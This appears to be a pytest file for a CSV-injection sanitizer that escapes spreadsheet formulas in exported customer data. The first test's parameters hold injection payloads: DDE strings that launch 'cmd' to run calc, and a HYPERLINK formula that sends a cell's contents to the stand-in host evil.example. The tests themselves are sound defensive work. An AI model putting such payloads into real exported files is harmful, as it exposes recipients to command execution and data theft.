"""Cells of strangers in files that we give out: never a formula, and otherwise as they were (OWASP, CSV injection)."""

import pytest

from lead_store.imports import as_safe_cell


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",  # Excel drops the tab, and runs the rest.
        "\r=1+1",
        '=HYPERLINK("https://evil.example/?" & A1, "click")',
    ],
)
def test_cell_that_could_run_gets_an_apostrophe(cell: str) -> None:
    assert as_safe_cell(cell) == f"'{cell}"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (None, ""),
        ("Ana", "Ana"),
        ("+5511987654321", "+5511987654321"),
        ("+55 11 98765-4321", "+55 11 98765-4321"),
        ("-12.5", "-12.5"),
        ("a=1", "a=1"),
    ],
)
def test_other_cells_stay_as_they_are(cell: str | None, expected: str) -> None:
    assert as_safe_cell(cell) == expected
